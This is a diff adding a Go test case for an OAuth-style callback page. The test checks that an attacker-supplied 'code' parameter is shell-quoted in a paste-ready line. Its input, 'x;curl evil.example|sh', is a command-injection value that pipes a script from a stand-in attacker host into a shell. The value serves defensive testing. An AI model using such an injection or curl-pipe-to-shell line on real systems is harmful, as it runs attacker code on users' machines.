@@ -558,6 +558,11 @@ func TestCallbackPage(t *testing.T) {
 	assert.NotContains(t, p.body, `"><b>`)
 	assert.NotContains(t, p.body, "curl", "no code, nothing to redeem")
 
+	// A code of a crafted link is quoted in the line to paste, as it is
+	// in the curl lines.
+	p = b.get(t, callbackPath+"?"+url.Values{"code": {"x;curl evil.example|sh"}}.Encode())
+	assert.Contains(t, p.body, "CODE=&#39;x;curl evil.example|sh&#39;")
+	assert.NotContains(t, p.body, "CODE=x;")
 	p = b.get(t, callbackPath+"?code=ac_x&iss=https://evil.example")
 	assert.Contains(t, p.body, "<strong>not</strong> this server's issuer")
 	p = b.get(t, callbackPath)
